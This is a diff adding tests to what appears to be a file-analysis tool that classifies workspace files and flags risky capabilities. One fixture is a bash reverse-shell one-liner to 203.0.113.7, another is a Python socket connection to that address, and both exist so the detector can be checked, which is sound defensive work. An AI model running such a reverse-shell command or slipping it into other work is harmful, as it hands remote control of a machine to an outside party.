@@ -87,9 +87,33 @@ def test_ordinary_written_code_is_nothing_more(path: str, content: str) -> None:
     }, names
 
 
-def test_what_is_not_code_is_not_read() -> None:
+def test_what_is_not_code_by_name_is_read_as_python_or_shell() -> None:
+    """A name decides nothing at run time (python3 notes.txt): text is recorded as Python when it
+    parses as Python, else as shell; prose runs nothing dangerous, a reverse shell is one."""
     assert code_kind("/workspace/README.md", "# hi\n") is None
-    assert analyse_written("/workspace/data.json", "{}") is None
+    assert analyse_written("/workspace/data.json", "{}").kind == "text"
+    prose = analyse_written("/workspace/README.md", "# hi\n\nRun make test.\n")
+    assert not {c.name for c in prose.capabilities} & {"net.reverse_shell", "shell.opaque", "proc.shell"}
+    py = analyse_written(
+        "/workspace/notes.txt", "import socket\nsocket.create_connection(('203.0.113.7', 22))\n"
+    )
+    assert "net.egress:203.0.113.7:22" in {c.name for c in py.capabilities} or any(
+        c.name.startswith("net.") for c in py.capabilities
+    )
+    sh = analyse_written("/workspace/run", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n")
+    assert "net.reverse_shell" in {c.name for c in sh.capabilities}
+    big = analyse_written("/workspace/log.txt", "x\n" * 40_000)
+    assert "shell.opaque" in {c.name for c in big.capabilities}  # too large to read: doubt if run
+
+
+def test_a_requirements_file_pulls_in_the_local_builds_it_names() -> None:
+    got = analyse_written(
+        "/workspace/requirements-dev.txt", "-e ./pkg  # local\nrequests ; python_version<'3.8'\n"
+    )
+    assert got.kind == "requirements"
+    assert {"/workspace/pkg/setup.py", "/workspace/pkg/pyproject.toml"} <= set(got.imports)
+    hosts = analyse_written("/workspace/requirements.txt", "--index-url http://mirror.example/simple\nx\n")
+    assert any(c.name.startswith("net.egress:mirror.example") for c in hosts.capabilities)
 
 
 def test_imports_are_kept_for_the_modules_they_pull_in() -> None:
